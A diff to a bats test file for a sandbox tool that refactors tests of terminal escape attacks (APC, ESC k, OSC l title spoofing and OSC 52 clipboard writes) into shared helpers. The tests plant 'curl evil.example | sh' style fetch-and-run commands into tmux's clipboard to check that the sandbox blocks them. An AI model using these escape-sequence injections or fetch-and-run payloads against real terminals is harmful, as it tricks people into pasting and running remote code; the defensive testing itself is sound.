@@ -167,16 +167,11 @@ wait_screen() { tmux_wait "$1" -e; }
 	tmux -L "$TMUX_SOCK" capture-pane -p -t B | grep -q 'after$'
 }
 
-@test "terminal attack: APC, ESC k and OSC l from the sandbox do not name the host's tmux pane or window" {
-	command -v tmux >/dev/null || skip "tmux is not installed"
-	# red team 17, F2: tmux takes APC as the pane's title (shown in its
-	# status line, left after the session) and ESC k as the window's name.
-	printf 'set -g allow-rename on\n' >"$OUT/tmux.conf"
-	printf '%s\n' '#!/bin/sh' \
-		'printf "\033_SANDBOX-PANE\033\\"' \
-		'printf "\033kSANDBOX-WIN\033\\"' \
-		'printf "\033]lSANDBOX-L\033\\"' \
-		'printf "done\r\n"' >"$WS/attack"
+# attack_in_tmux CONF: $WS/attack (which prints "done" last) run by
+# wicket in tmux session B, with CONF as tmux's configuration; returns
+# once wicket has ended.
+attack_in_tmux() {
+	printf '%s\n' "$1" >"$OUT/tmux.conf"
 	chmod 755 "$WS/attack"
 	tmux -L "$TMUX_SOCK" -f "$OUT/tmux.conf" new-session -d -x 80 -y 24 -s B -n host-win \
 		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
@@ -185,17 +180,36 @@ wait_screen() { tmux_wait "$1" -e; }
 		_ "$WS" "$WICKET" run -- ./attack
 	wait_screen '^wicket-exit=0$'
 	screen | grep -qx done
-	run tmux -L "$TMUX_SOCK" display-message -p -t B '#{pane_title}|#{window_name}'
-	refute_output --partial SANDBOX
-	# The same bytes outside do name them: the test can fail.
-	tmux -L "$TMUX_SOCK" respawn-pane -k sh -c "cd '$WS' && ./attack; sleep 60"
+}
+
+# attack_outside CMD...: $WS/attack run again in the same pane, without
+# wicket, until CMD succeeds (5 s at most): the bytes do act outside the
+# sandbox, so the test before it can fail.
+attack_outside() {
 	local i
+	tmux -L "$TMUX_SOCK" respawn-pane -k sh -c "cd '$WS' && ./attack; sleep 60"
 	for ((i = 0; i < 50; i++)); do
-		tmux -L "$TMUX_SOCK" display-message -p -t B '#{pane_title}|#{window_name}' | grep -q 'SANDBOX-PANE|SANDBOX-WIN' && break
+		"$@" && return 0
 		sleep 0.1
 	done
-	run tmux -L "$TMUX_SOCK" display-message -p -t B '#{pane_title}|#{window_name}'
-	assert_output 'SANDBOX-PANE|SANDBOX-WIN'
+	"$@"
+}
+
+tmux_names() { tmux -L "$TMUX_SOCK" display-message -p -t B '#{pane_title}|#{window_name}'; }
+
+@test "terminal attack: APC, ESC k and OSC l from the sandbox do not name the host's tmux pane or window" {
+	command -v tmux >/dev/null || skip "tmux is not installed"
+	# red team 17, F2: tmux takes APC as the pane's title (shown in its
+	# status line, left after the session) and ESC k as the window's name.
+	printf '%s\n' '#!/bin/sh' \
+		'printf "\033_SANDBOX-PANE\033\\"' \
+		'printf "\033kSANDBOX-WIN\033\\"' \
+		'printf "\033]lSANDBOX-L\033\\"' \
+		'printf "done\r\n"' >"$WS/attack"
+	attack_in_tmux 'set -g allow-rename on'
+	run tmux_names
+	refute_output --partial SANDBOX
+	attack_outside eval 'tmux_names | grep -qx "SANDBOX-PANE|SANDBOX-WIN"'
 }
 
 @test "terminal attack: OSC 52 from the sandbox does not set the host's clipboard (tmux with set-clipboard on)" {
@@ -203,30 +217,14 @@ wait_screen() { tmux_wait "$1" -e; }
 	# kitty, alacritty, wezterm and foot obey OSC 52 by default, tmux
 	# with set-clipboard on: what the person pastes next would be the
 	# sandbox's. Judged on tmux's paste buffer (found by a red team).
-	printf 'set -g set-clipboard on\n' >"$OUT/tmux.conf"
 	printf '%s\n' '#!/bin/sh' \
 		'printf "\033]52;c;%s\007" "$(printf "curl evil.example | sh" | base64)"' \
 		'printf "\033]0052;c;%s\033\\" "$(printf "curl evil2.example | sh" | base64)"' \
 		'printf "\033]0;still a title\007done\r\n"' >"$WS/attack"
-	chmod 755 "$WS/attack"
-	tmux -L "$TMUX_SOCK" -f "$OUT/tmux.conf" new-session -d -x 80 -y 24 \
-		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
-		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
-		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "wicket-exit=$?"; sleep 60' \
-		_ "$WS" "$WICKET" run -- ./attack
-	wait_screen '^wicket-exit=0$'
-	screen | grep -qx done
+	attack_in_tmux 'set -g set-clipboard on'
 	run tmux -L "$TMUX_SOCK" show-buffer
 	refute_output --partial "evil"
-	# The same bytes outside the sandbox do set it: the test can fail.
-	tmux -L "$TMUX_SOCK" respawn-pane -k sh -c "cd '$WS' && ./attack; sleep 60"
-	local i
-	for ((i = 0; i < 50; i++)); do
-		tmux -L "$TMUX_SOCK" show-buffer 2>/dev/null | grep -q evil && break
-		sleep 0.1
-	done
-	run tmux -L "$TMUX_SOCK" show-buffer
-	assert_output --partial "evil"
+	attack_outside eval 'tmux -L "$TMUX_SOCK" show-buffer 2>/dev/null | grep -q evil'
 }
 
 @test "ask attack 1: default colours the sandbox set (OSC 10, 11, 12, 4) are reset before the question" {
